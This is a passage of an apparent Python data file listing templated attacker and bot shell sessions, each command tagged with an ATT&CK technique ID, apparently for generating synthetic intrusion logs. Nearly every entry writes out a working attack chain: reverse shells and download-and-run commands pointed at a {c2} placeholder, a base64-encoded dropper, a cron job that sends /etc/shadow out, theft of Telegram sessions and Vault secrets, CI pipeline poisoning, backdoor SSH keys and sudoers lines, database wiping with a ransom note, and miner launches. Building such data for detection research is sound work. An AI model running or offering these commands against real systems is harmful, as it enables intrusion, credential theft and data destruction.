# --- 12. More lateral movement, initial access and reconnaissance from the attacker's box --------------------------
("lat-impacket-psexec", "human", """
T1087.002 :: crackmapexec smb {net} -u {user} -p '{pw}' --users
T1135 :: crackmapexec smb {net} -u {user} -p '{pw}' --shares
T1021.002 :: psexec.py {dom}/{user}:'{pw}'@{lan}
T1033 :: whoami
T1082 :: hostname
"""),
("lat-impacket-pth-wmiexec", "human", """
T1003.006 :: secretsdump.py {dom}/{user}:'{pw}'@{lan} -just-dc-ntlm
T1550.002@lateral-movement :: wmiexec.py -hashes :{r2}{r2}{r2}{r2} Administrator@{lan2}
T1033 :: whoami /priv
T1047 :: wmiexec.py -hashes :{r2}{r2}{r2}{r2} Administrator@{lan2} "ipconfig /all"
"""),
("lat-evil-winrm", "human", """
T1046 :: nmap -p 5985,5986 {lan}
T1021.006 :: evil-winrm -i {lan} -u {user} -p '{pw}'
T1033 :: whoami /groups
T1105 :: upload /opt/tools/{bin}.exe
"""),
("lat-xfreerdp", "human", """
T1046 :: nmap -p 3389 --open {net}
T1110.003 :: crowbar -b rdp -s {net} -u administrator -C pass.txt
T1021.001 :: xfreerdp /v:{lan} /u:{user} /p:'{pw}' /cert:ignore +clipboard
"""),
("lat-kubectl-exec", "human", """
T1613 :: kubectl get pods -A -o wide
T1609 :: kubectl exec -it -n {project} {project}-{r} -- /bin/sh
T1033 :: id
T1552.001 :: env | grep -i pass
T1609 :: kubectl exec -n kube-system etcd-{host} -- etcdctl get / --prefix --keys-only
"""),
("lat-docker-remote-api", "human", """
T1046 :: nmap -p 2375,2376 {net} --open
T1613 :: docker -H tcp://{lan}:2375 ps
T1610 :: docker -H tcp://{lan}:2375 run -d --privileged --net host -v /:/mnt alpine sleep 1d
T1611 :: docker -H tcp://{lan}:2375 exec -it $(docker -H tcp://{lan}:2375 ps -lq) chroot /mnt sh
"""),
("lat-rsync-key-pivot", "human", """
T1552.004 :: cat ~/.ssh/id_ed25519
T1018 :: grep -h "Host " ~/.ssh/config
T1021.004 :: ssh -J {user}@{lan} {user}@{lan2}
T1570 :: rsync -avz {dir}/{bin} {user}@{lan2}:/tmp/
T1021.004 :: ssh {user}@{lan2} "/tmp/{bin} &"
"""),
("lat-smbclient-loot", "human", """
T1135 :: smbclient -L //{lan} -N
T1135 :: smbmap -H {lan} -u guest
T1039 :: smbclient //{lan}/share -N -c "prompt off; recurse on; mget *"
T1083 :: ls -la
"""),
("ia-sqlmap-dump", "human", """
T1595.002 :: sqlmap -u "http://{lan}/item.php?id=1" --batch --banner
T1190 :: sqlmap -u "http://{lan}/item.php?id=1" --batch --dbs
T1190 :: sqlmap -u "http://{lan}/item.php?id=1" --batch -D {db} --tables
T1005 :: sqlmap -u "http://{lan}/item.php?id=1" --batch -D {db} -T users --dump
T1190 :: sqlmap -u "http://{lan}/item.php?id=1" --batch --os-shell
"""),
("ia-shellshock-probe", "human", """
T1595.002 :: curl -s -A "() { :; }; echo; /bin/id" http://{lan}/cgi-bin/status
T1190 :: curl -s -A "() { :; }; /bin/bash -c 'bash -i >& /dev/tcp/{c2}/{port} 0>&1'" http://{lan}/cgi-bin/status
"""),
("ia-struts-ognl", "human", """
T1595.002 :: curl -s -I http://{lan}:8080/struts2-showcase/
T1190 :: python3 struts-pwn.py -u http://{lan}:8080/struts2-showcase/index.action -c "id"
T1190 :: python3 struts-pwn.py -u http://{lan}:8080/struts2-showcase/index.action -c "wget http://{c2}/{bin} -O /tmp/{bin}"
"""),
("ia-valid-account-login", "human", """
T1078.003@initial-access :: ssh {user}@{lan}
T1033 :: id
T1082 :: uname -a
T1548.003 :: sudo -l
T1548.003 :: sudo su -
T1033 :: whoami
"""),
("recon-masscan-sweep", "human", """
T1595.001 :: masscan -p22,80,443,2375,6379,8080 {net} --rate 10000 -oL scan.txt
T1595.001,T1595.001,T1595.001 :: grep open scan.txt | awk '{print $4}' | sort -u > targets.txt
T1595.001 :: wc -l targets.txt
T1595.002 :: nmap -sV -iL targets.txt -oA svc
"""),
("recon-nuclei-scan", "human", """
T1595.002 :: httpx -l targets.txt -silent -o live.txt
T1595.002 :: nuclei -l live.txt -severity critical,high -o findings.txt
T1595.002 :: cat findings.txt | grep -i rce
"""),
("recon-dns-enum", "human", """
T1590.002 :: dig axfr @ns1.{dom} {dom}
T1596 :: whois {dom}
T1590.002 :: subfinder -d {dom} -silent | tee subs.txt
T1590.002 :: for s in $(cat subs.txt); do host $s; done
"""),
("resdev-stage-payloads", "human", """
T1588.002 :: git clone https://git.example.com/tools/{r}.git
T1587.001 :: cd {r} && make
T1608.001 :: scp {r}/bin/{bin} root@{c2}:/var/www/html/{bin}
T1608.001 :: ssh root@{c2} "chmod 644 /var/www/html/{bin}; ls -la /var/www/html"
"""),
# --- 13. More bots and operators -----------------------------------------------------------------------------------
("bot-outlaw-shellbot", "bot", """
T1082 :: uname -a; lspci | grep -i --color 'vga\\|3d\\|2d'; nproc
T1098 :: echo "{user}:{pw2}"|chpasswd|bash
T1098.004 :: cd ~; chattr -ia .ssh; lockr -ia .ssh
T1098.004 :: rm -rf .ssh && mkdir .ssh && echo "{key}" >> .ssh/authorized_keys && chmod -R go= ~/.ssh
T1105,T1105,T1140,T1059.004 :: cd /tmp; wget -q http://{c2}/dota3.tar.gz; tar xzf dota3.tar.gz; ./.rsync/initall 2>&1
"""),
("bot-hadoop-yarn-api", "bot", """
T1190 :: curl -s -X POST http://{lan}:8088/ws/v1/cluster/apps/new-application
T1190 :: curl -s -X POST -H "Content-Type: application/json" http://{lan}:8088/ws/v1/cluster/apps --data @app.json
T1105,T1059.004 :: wget -q -O - http://{c2}/{script} | sh
"""),
("bot-sshd-config-persist", "bot", """
T1082 :: uname -a
T1098 :: sed -i 's/#PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config
T1098 :: service ssh restart
T1098,T1098 :: echo 'root:{pw2}' | chpasswd
"""),
("bot-kinsing-style", "bot", """
T1685 :: ufw disable
T1686 :: iptables -F
T1685 :: echo 0 > /proc/sys/kernel/nmi_watchdog
T1489 :: ps aux | grep -v grep | grep 'kdevtmpfs' | awk '{print $2}' | xargs -I % kill -9 %
T1105 :: curl -s http://{c2}/d.sh -o {dir}/d.sh || wget -q -O {dir}/d.sh http://{c2}/d.sh
T1059.004,T1059.004 :: chmod +x {dir}/d.sh; sh {dir}/d.sh
"""),
("bot-ssh-scanner-drop", "bot", """
T1082 :: cat /proc/cpuinfo | grep processor | wc -l
T1105 :: cd /var/tmp && mkdir .{r} && cd .{r}
T1105 :: wget -q http://{c2}/pscan.tgz
T1140 :: tar xzf pscan.tgz
T1110.001 :: ./go.sh 22
"""),
("chain-mongo-ransom", "human", """
T1046 :: nmap -p 27017 {lan}
T1005 :: mongo --host {lan} --eval "db.adminCommand('listDatabases')"
T1005 :: mongodump --host {lan} --out /tmp/.md
T1485 :: mongo --host {lan} {db} --eval "db.dropDatabase()"
T1491.001 :: mongo --host {lan} READ_ME --eval 'db.readme.insert({msg: "Send 0.01 BTC to recover"})'
"""),
("chain-elastic-wipe", "human", """
T1046 :: curl -s http://{lan}:9200/
T1005 :: curl -s http://{lan}:9200/_cat/indices?v
T1005 :: curl -s "http://{lan}:9200/{db}/_search?size=1000" -o /tmp/.es.json
T1485 :: curl -s -X DELETE http://{lan}:9200/{db}
"""),
("chain-ci-pipeline-poison", "human", """
T1083 :: ls -la
T1552.001 :: cat .gitlab-ci.yml
T1552.001 :: env | sort
T1195.002 :: echo "  - curl -s http://{c2}/{script} | sh" >> .gitlab-ci.yml
T1195.002 :: git commit -am "ci: cache fix" && git push
"""),
("chain-cronjob-beacon-exfil", "human", """
T1033 :: id
T1053.003 :: echo '*/30 * * * * root tar cz /etc/passwd /etc/shadow 2>/dev/null | curl -s -T - http://{c2}/c/$(hostname)' > /etc/cron.d/{r}
T1070.006 :: touch -r /etc/cron.d/e2scrub_all /etc/cron.d/{r}
T1053.003 :: cat /etc/cron.d/{r}
"""),
("cred-mimipenguin", "human", """
T1057 :: ps aux | grep -iE "gnome-keyring|lightdm|vsftpd|sshd"
T1105 :: wget -q http://{c2}/mimipenguin.sh
T1003.007,T1003.007 :: chmod +x mimipenguin.sh; ./mimipenguin.sh
T1070.004 :: rm mimipenguin.sh
"""),
("cred-hashcat-local", "human", """
T1003.008 :: cat /etc/shadow | grep '\\$6\\$' > /tmp/.h
T1110.002 :: john --wordlist=/usr/share/wordlists/rockyou.txt /tmp/.h
T1110.002 :: john --show /tmp/.h
T1070.004 :: rm -f /tmp/.h ~/.john/john.pot
"""),
("cred-vault-token", "human", """
T1552.001 :: cat ~/.vault-token
T1552.001 :: env | grep VAULT
T1555 :: vault kv list secret/
T1555 :: vault kv get -format=json secret/{project}/prod
"""),
# --- 14. Honeypot-style bot scripts: fingerprint one-liners, shell checks, SCP drops ----------------------------------
("bot-auth-ok-echo-scp", "bot", """
T1497.001 :: echo -e "\\x61\\x75\\x74\\x68\\x5F\\x6F\\x6B\\x0A"
T1105 :: scp -t /tmp/{r}
T1059.004,T1059.004,T1059.004 :: cd /tmp && chmod +x {r} && bash -c ./{r}
T1059.004 :: ./{r}
"""),
("bot-elf-header-check", "bot", """
T1082 :: dd if=/proc/self/exe bs=22 count=1 || while read i; do echo $i; done < /proc/self/exe || cat /proc/self/exe
T1082 :: cat /proc/cpuinfo
T1105 :: cd /tmp || cd /var/run || cd /mnt
T1105,T1059.004,T1059.004 :: wget http://{c2}/{arch}; chmod 777 {arch}; ./{arch} ssh
"""),
("bot-gsm-modem-probe", "bot", """
T1120 :: ls -la /dev/ttyGSM* /dev/ttyUSB-mod* /var/spool/sms/* /var/log/smsd.log /etc/smsd.conf* /usr/bin/qmuxd /dev/modem* /var/config/sms/*
T1082 :: uname -a
T1057,T1057 :: ps | grep '[Mm]iner'
T1057,T1057 :: ps -ef | grep '[Mm]iner'
"""),
("bot-mikrotik-router-probe", "bot", """
T1082 :: /ip cloud print
T1016 :: ifconfig
T1082 :: uname -a
T1082 :: cat /proc/cpuinfo
T1057,T1057 :: ps | grep '[Mm]iner'
T1083 :: ls -la ~/.local/share/TelegramDesktop/tdata /home/*/.local/share/TelegramDesktop/tdata /dev/ttyGSM* /dev/ttyUSB-mod* /var/spool/sms/*
T1497.001,T1497.001 :: echo Hi | cat -n
"""),
("bot-gpu-check-miner", "bot", """
T1082 :: nvidia-smi --list-gpus
T1082,T1082 :: lspci | grep VGA
T1082,T1082 :: lspci | grep -i nvidia
T1082 :: nproc
T1105 :: cd {dir}; curl -s -O http://{c2}/{bin}
T1496.001,T1496.001 :: chmod +x {bin}; ./{bin} -a ethash -o stratum+tcp://{pool}:{poolport} -u {wallet}
"""),
("bot-sudo-s-password", "bot", """
T1033 :: whoami
T1548.003,T1548.003 :: echo "{pw}" | sudo -S id
T1548.003,T1548.003 :: echo "{pw}" | sudo -S sh -c "echo '{user} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"
T1098.004,T1098.004,T1098.004,T1098.004 :: cd ~ && mkdir -p .ssh && echo "{key}" >> .ssh/authorized_keys && chmod 600 .ssh/authorized_keys
"""),
("bot-locate-canary", "bot", """
T1497.001 :: locate {r2}{r2}
T1083 :: ls /
T1082 :: uname -a
T1033 :: w
"""),
("bot-telegram-session-theft", "bot", """
T1083 :: ls -la ~/.local/share/TelegramDesktop/tdata
T1552.001 :: find / -name "tdata" -type d 2>/dev/null
T1560.001 :: tar czf /tmp/.t.tgz ~/.local/share/TelegramDesktop/tdata
T1041 :: curl -s -F "d=@/tmp/.t.tgz" http://{c2}/tg
"""),
("bot-crontab-wipe-replace", "bot", """
T1053.003 :: crontab -r
T1053.003,T1053.003 :: echo "* * * * * wget -q -O - http://{c2}/{script} | sh > /dev/null 2>&1" | crontab -
T1053.003 :: crontab -l
T1070.003 :: history -c
"""),
("bot-proc-self-busybox-loop", "bot", """
T1059.004 :: /bin/busybox {r}
T1082,T1082 :: cat /proc/self/exe || /bin/busybox cat /proc/self/exe
T1105 :: for d in /tmp /var/tmp /dev/shm /var/run; do >$d/.t && cd $d; done
T1105,T1105,T1059.004,T1059.004 :: /bin/busybox wget http://{c2}/{arch} -O .d || /bin/busybox tftp -g -l .d -r {arch} {c2}; chmod 777 .d; ./.d {arch}.loader
"""),
("bot-base64-dropper-oneliner", "bot", """
T1082 :: uname -a
T1140,T1140,T1059.004 :: echo Y2QgL3RtcDsgd2dldCBodHRwOi8vMTk4LjUxLjEwMC43L3g7IGNobW9kICt4IHg7IC4veA== | base64 -d | sh
T1070.004 :: rm -rf /tmp/x
"""),
("bot-nohup-python-http", "bot", """
T1082 :: python3 -V
T1105 :: curl -s http://{c2}/{r}.py -o /tmp/.{r}.py
T1059.006 :: nohup python3 /tmp/.{r}.py >/dev/null 2>&1 &
T1070.004 :: rm -f /tmp/.{r}.py
"""),
("bot-ssh-keygen-known-hosts-spread", "bot", """
T1018,T1018,T1018 :: cat ~/.ssh/known_hosts | awk '{print $1}' | sort -u
T1552.004 :: ls ~/.ssh/id_*
T1021.004,T1021.004,T1021.004 :: for h in $(awk '{print $1}' ~/.ssh/known_hosts | sort -u); do ssh -oBatchMode=yes -oStrictHostKeyChecking=no $h "curl -s http://{c2}/{script}|sh" & done
"""),
("bot-uptime-load-check", "bot", """
T1082 :: uptime
T1082,T1082 :: cat /proc/loadavg; nproc
T1057,T1057 :: ps aux --sort=-%cpu | head -n 5
T1489,T1489,T1489 :: ps aux | awk '$3>40 {print $2}' | xargs -r kill -9
T1105,T1059.004 :: curl -s http://{c2}/{script} | sh
"""),
]
